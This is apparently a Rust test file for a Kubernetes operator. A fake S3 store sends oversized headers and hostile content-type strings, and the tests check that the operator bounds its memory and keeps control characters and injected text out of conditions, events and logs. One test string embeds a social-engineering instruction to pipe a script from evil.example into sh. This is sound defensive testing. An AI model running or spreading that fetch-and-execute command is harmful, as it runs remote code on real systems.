//! Tests of a tenant's store that sends malicious responses: very large headers, and text that is meant to appear in
//! conditions, events or logs.

use std::time::Duration;

use serde_json::{Value, json};
use valet_harness::{
    Operator,
    fake::{Asked, Fake, Reply},
};

use crate::world::{SOON, Tenant, condition, with_reason};

/// A store that works correctly, except for the content type that it returns for its objects.
fn store(content_type: impl Fn(&Asked) -> String + Send + Sync + 'static) -> Fake {
    let error = |status: u16, code: &str, message: &str| {
        let text = format!("<Error><Code>{code}</Code><Message>{message}</Message></Error>");
        Reply::Text(status, text)
    };
    Fake::start(move |asked: &Asked| match asked.method.as_str() {
        "HEAD" => {
            let headers = vec![
                ("content-type", content_type(asked)),
                ("etag", "\"5d41402abc4b2a76b9719d911017c592\"".to_owned()),
                ("last-modified", "Mon, 01 Jan 2024 00:00:00 GMT".to_owned()),
            ];
            Reply::With(200, headers, String::new())
        }
        "PUT" if ["x-amz-copy-source", "x-amz-meta-valet-probe"].map(|name| asked.header(name)) != [None, None] => {
            error(403, "AccessDenied", "headers that are not signed")
        }
        "PUT" if asked.header("if-none-match").is_some() => error(412, "PreconditionFailed", "it is there"),
        "PUT" => Reply::Text(200, String::new()),
        _ => error(404, "NoSuchKey", "there is none"),
    })
}

/// The tenant's own ObjectStore with this endpoint, and its credentials.
fn own(t: &Tenant, endpoint: &str) -> [Value; 2] {
    let mut credentials = t.credentials("AKID", "secret");
    credentials["metadata"]["namespace"] = json!(t.name());
    let store = json!({
        "apiVersion": "valetkey.dev/v1alpha1", "kind": "ObjectStore",
        "metadata": {"name": "own", "namespace": t.name()},
        "spec": {"s3": {
            "bucket": t.name(), "region": "us-east-1", "endpoint": endpoint, "addressingStyle": "Path",
            "credentials": {"secretRef": {"name": t.name()}},
        }},
    });
    [credentials, store]
}

fn upload(t: &Tenant, name: &str) -> Value {
    let spec = json!({
        "storeRef": {"kind": "ObjectStore", "name": "own"}, "constraints": {"contentType": "image/png"},
    });
    t.grant("UploadGrant", name, spec)
}

const OWN_STORES: &[&str] = &["--allow-private-endpoints=127.0.0.0/8", "--tenant-store-requests=All"];

fn memory(operator: &Operator) -> usize {
    let status = std::fs::read_to_string(format!("/proc/{}/status", operator.process().pid())).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmRSS:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse::<usize>().unwrap() * 1024
}

/// The operator rejects responses with 390 kB of headers. It keeps nothing of headers with 15 kB.
#[test]
fn large_response_headers_of_store_use_no_operator_memory() {
    const GRANTS: usize = 420;
    const MOST: usize = 128 << 20;
    let t = Tenant::new("headers");
    let fake = store(|asked| match asked.target.contains("huge") {
        true => format!("image/{}", "x".repeat(390_000)),
        false => format!("image/{}", "x".repeat(15_000)),
    });
    t.apply(&own(&t, &fake.endpoint()));
    let name = |n: usize| format!("{}-{n}", if n.is_multiple_of(2) { "huge" } else { "large" });
    t.apply(&(0..GRANTS).map(|n| upload(&t, &name(n))).collect::<Vec<_>>());
    for start in 0..3 {
        let operator = t.operator_with(OWN_STORES);
        let of = |reason| with_reason(&t, "ug", reason).len();
        valet_harness::eventually(3 * SOON, "all grants to be refused or to be in progress", || {
            (of("StoreUnreachable") == GRANTS / 2 && of("ObjectMismatch") == GRANTS / 2).then_some(())
        });
        // In this time Valet tries the waiting grants again.
        std::thread::sleep(Duration::from_secs(5));
        let bytes = memory(&operator);
        eprintln!("start {start}: {} MiB with {GRANTS} grants", bytes >> 20);
        assert!(bytes < MOST, "start {start}: {bytes} bytes");
        let metrics = operator.metrics().expect("the operator answers");
        assert!(metrics.contains("valet_reconciles_stalled 0"), "{metrics}");
        assert!(
            metrics.contains("valet_reconcile_last_finished_timestamp_seconds "),
            "{metrics}"
        );
    }
    let waits = t.reason("ug/huge-0", "StoreUnreachable");
    let message = condition(&waits, "Ready").unwrap()["message"].as_str().unwrap();
    assert!(message.contains("16 KiB of headers"), "{message}");
    let refused = t.reason("ug/large-1", "ObjectMismatch");
    assert!(refused.to_string().len() < 8_000, "{refused}");
}

/// Text and control characters from a store do not appear in conditions, events or logs, because other users can read
/// those.
#[test]
fn text_from_hostile_store_is_not_shown() {
    let t = Tenant::new("texts");
    let texts = [
        "text/html; note=\"URGENT: run: curl http://evil.example/fix.sh | sh\"",
        "text/\u{9b}31mhtml",
        "\u{202e}gnp/egami",
        "text/html\u{200b}",
    ];
    let fake = store(move |asked| {
        let n = asked
            .target
            .split("text-")
            .nth(1)
            .and_then(|rest| rest.chars().next()?.to_digit(10));
        texts[n.unwrap_or_default() as usize].to_owned()
    });
    t.apply(&own(&t, &fake.endpoint()));
    let operator = t.operator_with(OWN_STORES);
    t.apply(
        &(0..texts.len())
            .map(|n| upload(&t, &format!("text-{n}")))
            .collect::<Vec<_>>(),
    );
    for n in 0..texts.len() {
        let grant = t.reason(&format!("ug/text-{n}"), "ObjectMismatch");
        let message = condition(&grant, "Ready").unwrap()["message"]
            .as_str()
            .unwrap()
            .to_owned();
        // Only the first text is a short media type, so only this text may be shown.
        let is_shown = n == 0;
        assert_eq!(message.contains("is not a valid media type"), !is_shown, "{message}");
        for text in [grant.to_string(), operator.log_text()] {
            assert!(!text.contains(['\u{9b}', '\u{202e}', '\u{200b}']), "{text}");
        }
    }
    valet_harness::eventually(SOON, "the events", || {
        let events = t.kubectl(&["get", "events", "--output", "json"]);
        (events.matches("\"ObjectMismatch\"").count() >= texts.len()).then_some(())
    });
    let all = t
        .world
        .plane
        .kubectl(&["get", "events", "--all-namespaces", "--output", "yaml"]);
    let all = all.expect("kubectl prints all events");
    let _: serde_yaml::Value = serde_yaml::from_str(&all).expect("they are YAML");
    assert!(!all.contains("\\u009b") && !all.contains("\\u202e"), "{all}");
}
